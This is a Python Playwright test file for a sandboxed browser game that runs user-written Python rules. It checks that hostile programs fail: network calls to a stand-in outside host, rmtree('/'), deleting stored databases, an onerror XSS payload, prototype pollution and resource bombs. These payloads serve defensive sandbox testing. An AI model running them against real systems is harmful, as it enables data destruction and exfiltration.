"""Programs that try to get out of their closed room, or to break the page: what each tries, and that it fails.

Each runs as the rules of a made game. Another host notes whether anything reaches it; a table that was made before
must be as it was, and the page must play on. What the page tells is compared too: a room that does not open at all
would stop every program. They are grouped by the guard that stops them; `python -m tests.guards` removes each once.
"""

from __future__ import annotations

from typing import Any

import pytest
from playwright.sync_api import Page, expect

from e2e.conftest import BOOT_TIMEOUT
from e2e.games.test_made import expect_the_page_to_work, receive
from e2e.hands import point, record_of, set_table
from e2e.made import SENSELESS, STOPPED, spoilt
from e2e.picture import small_boards
from e2e.rooms import OTHER_HOST, other_host
from e2e.watching import A_ROOM, refusals, requests_to

NESTED = "import js\njs.Worker.new(js.URL.createObjectURL(js.Blob.new(js.Array.of({script!r}))))"
DOOR = "from pycore.door import asking, playing\ncard, board, new = asking.card, asking.board, playing.new\n"
PLAIN = 'import js\nplain = js.JSON.parse(\'{"mode": "no-cors"}\')\n'
PRECIOUS = "precious"
"""A database and a cache of the test's own."""

BOARD = "the board is shown"
AGAIN = "has a fault in game.py, line 15: The program calls itself again and again."

HOSTILE: dict[str, dict[str, tuple[str, str]]] = {
    "a room has a limit of time": {
        "loops": ("while True: pass", STOPPED),
    },
    "a room that fails at its program is closed": {
        "recurses where nobody stops it": (
            "import sys\nsys.setrecursionlimit(10**9)\ndef again(): return again()\nagain()",
            STOPPED,
        ),
        "ends the process": ("import os\nos._exit(3)", STOPPED),
    },
    "what Python stops is told as a fault": {
        "recurses": ("def again(): return again()\nagain()", AGAIN),
        "fills the memory at once": ("kept = bytearray(2_000_000_000)", "needs more memory than there is"),
        "fills the memory step by step": (
            "kept = []\nwhile True: kept.append(bytearray(10_000_000))",
            "needs more memory than there is",
        ),
    },
    "the policies of the page and of a room": {
        "fetches": ("import js\njs.fetch('HOST')", BOARD),
        "fetches without CORS": (PLAIN + "js.fetch('HOST', plain)", BOARD),
        "fetches synchronously": (
            "import js\nasked = js.XMLHttpRequest.new()\nasked.open('GET', 'HOST', False)\nasked.send()",
            "NetworkError",
        ),
        "opens a WebSocket": ("import js\njs.WebSocket.new('HOST'.replace('http', 'ws'))", BOARD),
        "listens to a stream": ("import js\njs.EventSource.new('HOST')", BOARD),
        "loads a font": ("import js\njs.FontFace.new('x', 'url(HOST)').load()", BOARD),
        "loads a script": ("import js\njs.importScripts('HOST')", "NetworkError"),
        "starts a nested worker": (NESTED.format(script="fetch('HOST', { mode: 'no-cors' })"), BOARD),
        "runs text as JavaScript": ("import js\njs.eval(\"fetch('HOST')\")", "EvalError"),
    },
    "the sandbox of a room": {
        "deletes a database": (f"import js\njs.indexedDB.deleteDatabase('{PRECIOUS}')", "SecurityError"),
        "deletes a cache": (f"import js\njs.caches.delete('{PRECIOUS}')", "caches (AttributeError)"),
    },
    "a program runs in a worker of its own": {
        "deletes all files": ("import shutil\nshutil.rmtree('/', ignore_errors=True)", BOARD),
        "forgets all modules": ("import sys\nsys.modules.clear()", "Something went wrong in the rules."),
        "closes its worker": ("import js\njs.self.close()", BOARD),
    },
    "replies of a room have their types": {
        "replaces the door": (DOOR + "playing.new = lambda request: {'scene': '<script>'}", SENSELESS),
        "names cells after parts of every object": (
            DOOR + "def spoilt(request):\n"
            "    reply = board(request)\n"
            "    first = reply['board']['cells'][0]\n"
            "    reply['board']['cells'] = [{**first, 'id': '__proto__'}, *reply['board']['cells'][1:]]\n"
            "    return reply\n"
            "asking.board = spoilt",
            SENSELESS,
        ),
    },
    "replies of a room have a limit": {
        "answers nine million letters": (
            DOOR + "asking.card = lambda spec: card(spec) | {'goal': 'x' * 9_000_000}",
            STOPPED,
        ),
    },
    "words of a program are shown as text": {
        "writes HTML": (
            DOOR + "asking.card = lambda spec: card(spec) | {'goal': '<img src=x onerror=\"window.alerted = 1\">'}",
            BOARD,
        ),
    },
    "what a room lacks": {
        "fetches by Pyodide": ("from pyodide.http import open_url\nopen_url('HOST')", "no module “pyodide.http”"),
        "sends a beacon": ("import js\njs.navigator.sendBeacon('HOST', 'x')", "sendBeacon (AttributeError)"),
        "opens a peer connection": ("import js\njs.RTCPeerConnection.new()", "RTCPeerConnection (AttributeError)"),
        "goes to another address": ("import js\njs.location.assign('HOST')", "assign (AttributeError)"),
        "opens a socket": (
            "import socket\nsocket.create_connection(('127.0.0.1', int('HOST'.split(':')[2].strip('/'))), 1)",
            "unknown encoding: idna",
        ),
    },
}
"""Programs by the guard that stops them: what each tries, its lines, and what the page tells of it.

HOST is the address of another host.
"""

PROGRAMS = [
    pytest.param(*program, id=what, marks=pytest.mark.guard(name=guard))
    for guard, programs in HOSTILE.items()
    for what, program in programs.items()
]

KEEP = """async (name) => {
    const opening = indexedDB.open(name);
    opening.onupgradeneeded = () => opening.result.createObjectStore("kept").put("here", 1);
    await new Promise((resolve) => (opening.onsuccess = resolve));
    opening.result.close();
    await (await caches.open(name)).put("/kept", new Response("here"));
}"""
KEPT = """async (name) => {
    const bases = await indexedDB.databases();
    return [bases.some((one) => one.name === name), (await caches.keys()).includes(name)];
}"""


@pytest.mark.long
@pytest.mark.parametrize(("lines", "told"), PROGRAMS)
def test_a_hostile_game_reaches_nothing(page: Page, site: str, lines: str, told: str) -> None:
    page.context.watched.expect(A_ROOM, requests_to(OTHER_HOST), refusals("style-src-attr"))
    page.goto(site)
    set_table(page)
    point(page, "B1", "B3")
    expect(page.locator("button.ply").first).to_be_visible(timeout=BOOT_TIMEOUT)
    expect(page.locator("html")).to_have_attribute("data-saved", "device")
    page.evaluate(KEEP, PRECIOUS)
    table, before = page.url, record_of(page)
    assert before["log"] == ["b1b3"]
    with other_host() as (host, asked):
        receive(page, site, spoilt(lines.replace("HOST", host)))
        page.get_by_role("button", name="Show the board").click()
        board, alert = small_boards(page), page.get_by_role("alert").filter(has_text=".")
        expect(board.or_(alert).first).to_be_visible(timeout=BOOT_TIMEOUT)
        assert told in (alert.first.inner_text() if alert.count() else BOARD)
        page.wait_for_timeout(500)  # whatever it has begun may go on
        assert asked == [], "something left the room"
    if "<img" in lines:
        expect(page.get_by_text("To win: <img src=x onerror=")).to_be_visible()
    assert page.locator("img[src=x]").count() == 0
    assert page.evaluate("window.alerted") is None
    assert page.evaluate(KEPT, PRECIOUS) == [True, True]
    expect_the_page_to_work(page, site)
    page.goto(table)
    expect(page.locator("button.ply").first).to_be_visible(timeout=BOOT_TIMEOUT)
    after: dict[str, Any] = record_of(page)
    assert after["log"] == before["log"]
